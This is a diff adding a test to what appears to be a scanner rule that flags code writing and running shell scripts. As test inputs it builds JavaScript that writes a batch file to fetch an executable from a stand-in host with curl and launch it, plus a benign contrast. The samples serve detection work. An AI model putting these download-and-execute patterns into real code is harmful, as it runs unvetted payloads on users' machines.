@@ -29,3 +29,11 @@ test('good: what brings nothing, shows a recipe only, or is no script of a shell
   ]) assert.match(worst(HEAD + code), /^(?:nothing|low)$/, code);
   assert.match(worst('require("fs").writeFileSync("install.sh", "curl -o i https://a.example/i\\nsh i\\n");'), /^(?:nothing|low)$/, 'no program is started');
 });
+
+test('a script whose lines are put together, each of several parts', () => {
+  const lines = (...all: string[]): string => `${HEAD}const dir = path.join(os.tmpdir(), "shots"); const file = path.join(os.tmpdir(), "u.bat"); fs.writeFileSync(file, [${all.join(', ')}].join("\\r\\n")); exec("cmd /c " + file);`;
+  const get = '"curl -s -o \\"" + dir + "\\\\a.exe\\" https://cdn.assets.example/a.exe"';
+  assert.ok(['high', 'critical'].includes(worst(lines('"@echo off"', get, '"start \\"\\" /b \\"" + dir + "\\\\a.exe\\""'))));
+  assert.ok(['high', 'critical'].includes(worst(lines('"@echo off"', '`curl -s -o "${dir}/a.exe" https://cdn.assets.example/a.exe`', '`start "" /b "${dir}/a.exe"`'))));
+  assert.ok(!['high', 'critical'].includes(findingsOf(rule, { 'a.js': lines('"@echo off"', '"cd \\"" + dir + "\\""', '"npm test"') }).find(({ message }) => message.startsWith('a script for a shell'))?.severity ?? ''));
+});
